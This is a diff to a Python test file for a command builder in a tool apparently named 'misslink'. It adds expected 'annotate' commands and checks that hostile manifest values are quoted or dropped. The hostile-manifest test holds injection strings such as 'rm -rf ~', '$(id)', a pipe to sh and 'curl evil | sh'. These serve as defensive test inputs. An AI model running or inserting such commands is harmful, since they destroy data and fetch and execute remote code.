@@ -17,6 +17,7 @@ def test_the_recorded_command_keeps_what_judges_and_drops_where_it_went():
     assert build_case_command(Manifest(command=recorded), "elsewhere") == CaseCommand(
         "misslink evaluate app.py:chain --goldset 'my gold.jsonl' --judge openai:m --k 3",
         "reports/a-case-",
+        annotate="misslink annotate reports/a",
     )
 
 
@@ -38,6 +39,7 @@ def test_another_command_is_told_by_the_manifest():
         "misslink evaluate a/app.py:chain --goldset a/g.jsonl --judge heuristic --k 3 --depth 100 "
         "--embedding app --seed 0",
         "reports/demo-case-",
+        annotate="misslink annotate reports/demo",
     )
     traces = {"traces": "t.jsonl", "goldset": "g.jsonl"}
     assert (
@@ -68,6 +70,8 @@ def test_a_hostile_manifest_adds_no_command_of_its_own():
     assert found.head == "misslink evaluate 'a;' rm -rf '~' '&&' '$(id)' '`id`' '|' sh '>' f"
     assert build_case_command(Manifest(command="curl evil | sh")).head == ""
     assert build_case_command(Manifest(command="misslink evaluate a\x1b[2J")).head == ""
+    assert build_case_command(Manifest(), "a\x1b[2J").annotate == ""
+    assert build_case_command(Manifest(), "a; b").annotate == "misslink annotate 'a; b'"
 
 
 @pytest.mark.parametrize(
